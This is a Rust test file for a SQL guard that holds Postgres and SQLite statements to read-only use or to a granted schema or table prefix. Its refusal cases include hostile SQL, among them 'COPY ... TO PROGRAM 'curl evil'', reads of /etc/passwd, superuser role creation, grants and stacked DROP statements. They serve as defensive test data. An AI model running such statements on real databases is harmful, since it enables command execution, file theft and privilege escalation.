use super::*;

const PG: Dialect = Dialect::Postgres;
const LITE: Dialect = Dialect::Sqlite;

fn write(sql: &str) -> Result<Checked, Refusal> {
    check(PG, &Scope::Write("raw".into()), sql)
}

fn lite(sql: &str) -> Result<Checked, Refusal> {
    check(LITE, &Scope::Write("raw_".into()), sql)
}

fn read(sql: &str) -> Result<Checked, Refusal> {
    check(PG, &Scope::Read, sql)
}

#[track_caller]
fn refused(r: Result<Checked, Refusal>, rule: &str) -> Refusal {
    match r {
        Ok(c) => panic!("expected a refusal by `{rule}`, but it passed as {}", c.sql),
        Err(e) => {
            assert_eq!(e.rule, rule, "{e}");
            e
        }
    }
}

#[test]
fn reads_allow_queries_and_nothing_else() {
    let c = read("select id, name from public.users where id > $1 order by id limit 10").unwrap();
    assert_eq!(c.kind, Kind::Query);
    assert_eq!(
        read("WITH t AS (SELECT 1 AS x) SELECT * FROM t")
            .unwrap()
            .kind,
        Kind::Query
    );
    assert_eq!(read("EXPLAIN SELECT 1").unwrap().kind, Kind::Explain);
    assert!(
        read("SELECT pg_sleep(0.01)").is_ok(),
        "slow is the deadline's job"
    );
    for bad in [
        "INSERT INTO users VALUES (1)",
        "UPDATE users SET name = 'x'",
        "DELETE FROM users",
        "DROP TABLE users",
        "CREATE TABLE t (x int)",
        "SET default_transaction_read_only = off",
        "EXPLAIN ANALYZE SELECT 1",
        "EXPLAIN DELETE FROM users",
        "SELECT * FROM users FOR UPDATE",
        "SELECT * FROM users FOR SHARE",
        "SELECT * INTO copy FROM users",
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        "SELECT set_config('default_transaction_read_only', 'off', false)",
        "SELECT nextval('users_id_seq')",
        "SELECT query_to_xml('delete from users', true, true, '')",
        "SELECT pg_advisory_lock(1)",
        "SELECT * FROM dblink('host=x', 'select 1') AS t(x int)",
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        "COPY users TO PROGRAM 'id'",
        "BEGIN",
    ] {
        refused(read(bad), "read-only");
    }
    refused(read("SELECT 1; DELETE FROM users"), "one-statement");
    refused(read("SELECT 1; SELECT 2"), "one-statement");
    refused(read("DO $$ BEGIN DELETE FROM users; END $$"), "unparseable");
    refused(read("SELEC 1"), "unparseable");
}

#[test]
fn what_runs_is_the_parsed_statement_not_the_text() {
    // A trailing comment cannot swallow anything the host appends, because it is gone.
    let c = read("SELECT 1 -- comment").unwrap();
    assert!(!c.sql.contains("comment"), "{}", c.sql);
}

#[test]
fn writes_stay_inside_the_granted_schema() {
    let c = write("CREATE TABLE users (id bigint PRIMARY KEY, data jsonb)").unwrap();
    assert!(c.sql.starts_with("CREATE TABLE \"raw\".users"), "{}", c.sql);
    assert!(c.ddl);
    let c = write("INSERT INTO users (id) SELECT id FROM raw.stage ON CONFLICT (id) DO NOTHING")
        .unwrap();
    assert!(c.sql.contains("INTO \"raw\".users"), "{}", c.sql);
    assert!(!c.ddl);
    assert!(write("CREATE SCHEMA IF NOT EXISTS raw").is_ok());
    assert!(
        write("CREATE SCHEMA IF NOT EXISTS RAW").is_ok(),
        "unquoted folds"
    );
    assert!(write("DROP TABLE IF EXISTS raw.users").is_ok());
    assert!(write("TRUNCATE users").is_ok());
    assert!(write("ALTER TABLE users ADD COLUMN age bigint").is_ok());
    assert!(write("ALTER TABLE users RENAME TO people").is_ok());
    assert!(write("CREATE INDEX users_idx ON users (id)").is_ok());
    assert!(write("UPDATE users SET name = lower(name) WHERE id = $1").is_ok());
    assert!(write("DELETE FROM users u USING stage s WHERE u.id = s.id").is_ok());
    let c =
        write("WITH s AS (SELECT id FROM stage) DELETE FROM users WHERE id IN (SELECT id FROM s)")
            .unwrap();
    assert!(
        c.sql.contains("FROM s)"),
        "a CTE is not qualified: {}",
        c.sql
    );
    assert!(c.sql.contains("\"raw\".stage"), "{}", c.sql);

    for bad in [
        "DROP TABLE public.users",
        "ALTER TABLE public.users ADD COLUMN x int",
        "INSERT INTO other.t VALUES (1)",
        "SELECT * FROM pg_catalog.pg_authid",
        "INSERT INTO users SELECT * FROM public.secrets",
        "UPDATE users SET x = (SELECT max(x) FROM public.t)",
        "DELETE FROM users WHERE id IN (SELECT id FROM \"other\".\"t\")",
        "TRUNCATE public.users",
        "CREATE TABLE other.t (x int)",
        "CREATE TABLE t (x int REFERENCES public.users (id))",
        "CREATE SCHEMA other",
        "CREATE SCHEMA \"RAW\"",
        "DROP TABLE db.raw.users",
        "ALTER TABLE users RENAME TO public.users",
    ] {
        refused(write(bad), "outside-scope");
    }
    // A quoted identifier is exact: "Raw" is not raw.
    refused(write("DROP TABLE \"Raw\".t"), "outside-scope");
    for bad in [
        "CREATE ROLE evil LOGIN SUPERUSER",
        "GRANT ALL ON ALL TABLES IN SCHEMA public TO evil",
        "CREATE EXTENSION dblink",
        "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
        "COPY users TO PROGRAM 'curl evil'",
        "COPY users FROM '/etc/passwd'",
        "SET search_path = public",
        "SET ROLE postgres",
        "DROP SCHEMA raw CASCADE",
        "ALTER TABLE users OWNER TO evil",
        "CREATE TEMPORARY TABLE t (x int)",
        "CREATE VIEW v AS SELECT 1",
        "ALTER TABLE users SET SCHEMA public",
        "DROP FUNCTION f",
        "BEGIN",
        "CREATE TABLE t (LIKE public.users)",
    ] {
        let r = write(bad);
        assert!(r.is_err(), "{bad} passed");
    }
    refused(write("SELECT pg_terminate_backend(1)"), "function");
    refused(write("INSERT INTO t SELECT public.f()"), "function");
    refused(
        write("SELECT query_to_xml('drop table public.t', true, true, '')"),
        "function",
    );
    refused(
        write("DROP TABLE t; DROP TABLE public.users"),
        "one-statement",
    );
    refused(
        write("DO $$ BEGIN DROP TABLE public.users; END $$"),
        "unparseable",
    );
}

#[test]
fn sqlite_writes_stay_inside_the_table_prefix() {
    assert!(lite("CREATE TABLE IF NOT EXISTS raw_users (id INTEGER PRIMARY KEY)").is_ok());
    assert!(lite("INSERT OR REPLACE INTO main.raw_users (id) VALUES (?1)").is_ok());
    assert!(lite("DELETE FROM raw_users WHERE id IN (SELECT id FROM raw_stage)").is_ok());
    refused(lite("DROP TABLE users"), "outside-scope");
    refused(lite("SELECT * FROM sqlite_master"), "outside-scope");
    refused(
        lite("INSERT INTO other.raw_users VALUES (1)"),
        "outside-scope",
    );
    refused(
        lite("ALTER TABLE raw_users RENAME TO users"),
        "outside-scope",
    );
    assert!(lite("ATTACH DATABASE '/tmp/x.db' AS x").is_err());
    assert!(lite("PRAGMA writable_schema = 1").is_err());
    refused(lite("CREATE SCHEMA raw_"), "statement-kind");
    refused(lite("SELECT load_extension('x')"), "function");
}

#[test]
fn load_targets_are_checked_and_qualified() {
    let scope = Scope::Write("raw".into());
    assert_eq!(check_table(PG, &scope, "users").unwrap(), "\"raw\".users");
    assert_eq!(
        check_table(PG, &scope, "raw.\"Users\"").unwrap(),
        "raw.\"Users\""
    );
    assert_eq!(
        check_table(PG, &scope, "public.users").unwrap_err().rule,
        "outside-scope"
    );
    assert_eq!(
        check_table(PG, &scope, "users; drop table x")
            .unwrap_err()
            .rule,
        "unparseable"
    );
    assert_eq!(
        check_table(PG, &Scope::Read, "users").unwrap_err().rule,
        "read-only"
    );
    let lite = Scope::Write("raw_".into());
    assert_eq!(check_table(LITE, &lite, "raw_users").unwrap(), "raw_users");
    assert!(check_table(LITE, &lite, "users").is_err());
}
